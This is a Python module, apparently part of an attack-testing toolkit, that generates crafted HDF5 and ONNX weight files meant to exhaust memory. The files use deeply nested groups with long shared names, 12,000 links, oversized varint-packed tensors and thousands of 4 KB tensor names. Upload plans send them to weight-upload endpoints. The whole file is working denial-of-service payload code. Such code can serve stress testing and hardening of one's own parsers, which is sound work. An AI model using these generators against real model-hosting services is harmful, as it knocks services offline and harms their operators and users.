"""Weight files that are small and ask for much memory."""

import struct
from collections.abc import Sequence

from onnx import TensorProto, helper

from tools.attack.plan import Plan, uploaded

LINKS = 12_000
LEVELS = 31
NAME = "n" * 1019 + "\N{GRINNING FACE}"  # one wide character makes Python keep all of them wide
SIDE, KERNEL = 128, 11  # of the largest layer
NAMES, NAME_BYTES = 4000, 4096
UNDEFINED = 2**64 - 1  # an address that leads nowhere
START_BYTES, TREE_BYTES, LINK_BYTES = 96, 48, 40


def hdf5() -> Plan:
    """Send a 485 KB HDF5 file: nested groups with long names, and 12,000 links that share one name."""
    file = nested_groups()
    return Plan(requests=[uploaded(file, "/weights/contents"), uploaded(file, "/weights")], cpu_s=2)


def varints() -> Plan:
    """Send a 19.8 MB ONNX file whose second layer has ten one-byte numbers for each of its weights."""
    file = varints_model()
    return Plan(requests=[uploaded(file, "/weights")], cpu_s=2)


def names() -> Plan:
    """Send a 33 MB ONNX file of 4,000 convolutions whose names have 4 KB, and ask what it holds."""
    return Plan(requests=[uploaded(named_model(), "/weights/contents")], cpu_s=2, answer_mib=2)


def nested_groups() -> bytes:
    """Return an HDF5 file (its specification, version 0): groups in each other, and in the innermost many links.

    All groups share one list of names. So the file is short, and the paths in it are long.
    """
    names = b"\0" * 8 + NAME.encode() + b"\0"
    file = bytearray(START_BYTES)
    heap = len(file)
    file += b"HEAP" + bytes(4) + struct.pack("<QQQ", len(names), UNDEFINED, heap + 32) + names
    inner = None
    for _ in range(LEVELS + 1):
        tree = len(file)
        file += _table(tree, inner, links=1 if inner else LINKS)
        inner = len(file)
        symbols = struct.pack("<HHBxxxQQ", 0x11, 16, 0, tree, heap)
        file += struct.pack("<BxHII4x", 1, 1, 1, len(symbols)) + symbols
    start = b"\x89HDF\r\n\x1a\n" + bytes((0, 0, 0, 0, 0, 8, 8, 0)) + struct.pack("<HHI", 4, 16, 0)
    start += struct.pack("<QQQQ", 0, UNDEFINED, len(file), UNDEFINED)
    file[:START_BYTES] = start + struct.pack("<QQII16x", 0, inner, 0, 0)
    return bytes(file)


def _table(place: int, linked: int | None, *, links: int) -> bytes:
    """Return the links of a group: a tree of one node, and the node.

    Links to nothing lead to an empty object of their own, which is in the last 16 bytes of the link itself.
    """
    node = place + TREE_BYTES
    tree = b"TREE" + struct.pack("<BBHQQQQQ", 0, 0, 1, UNDEFINED, UNDEFINED, 0, node, 8)
    ends = (node + 8 + LINK_BYTES * number for number in range(1, links + 1))
    rows = (struct.pack("<QQIIB15x", 8, linked or end - 16, 0, 0, 1) for end in ends)
    return tree + b"SNOD" + struct.pack("<BxH", 1, links) + b"".join(rows)


def varints_model() -> bytes:
    """Return an ONNX model in which the numbers of the larger layer are written in single bytes, too many."""
    first = helper.make_tensor(
        "a", TensorProto.FLOAT, (SIDE, 3, 3, 3), bytes(4 * SIDE * 27), raw=True
    )
    second = TensorProto(name="b", data_type=TensorProto.INT64, dims=(SIDE, SIDE, KERNEL, KERNEL))
    numbers = b"\1" * (10 * SIDE**2 * KERNEL**2)
    packed = b"\x3a" + _varint(len(numbers)) + numbers  # field 7, the numbers of an int64 tensor
    return model([first.SerializeToString(), second.SerializeToString() + packed], ["a", "b"])


def named_model() -> bytes:
    """Return an ONNX model of many small convolutions with very long names."""
    names = [f"{number:04}".ljust(NAME_BYTES, "n") for number in range(NAMES)]
    tensors = (helper.make_tensor(one, TensorProto.FLOAT, (1, 1, 1, 1), [0.0]) for one in names)
    return model([one.SerializeToString() for one in tensors], names)


def model(tensors: Sequence[bytes], weights: Sequence[str]) -> bytes:
    """Return an ONNX model of tensors, already encoded, and of convolutions with these weights."""
    nodes = [helper.make_node("Conv", ["x", name], ["x"]) for name in weights]
    graph: bytes = helper.make_graph(nodes, "g", [], []).SerializeToString()
    graph += b"".join(b"\x2a" + _varint(len(one)) + one for one in tensors)  # field 5
    return (
        b"\x08\x08" + b"\x3a" + _varint(len(graph)) + graph
    )  # version 8 of the format, then field 7


def _varint(number: int) -> bytes:
    groups = [number >> 7 * place & 127 for place in range(max(-(-number.bit_length() // 7), 1))]
    return bytes([*(one | 128 for one in groups[:-1]), groups[-1]])
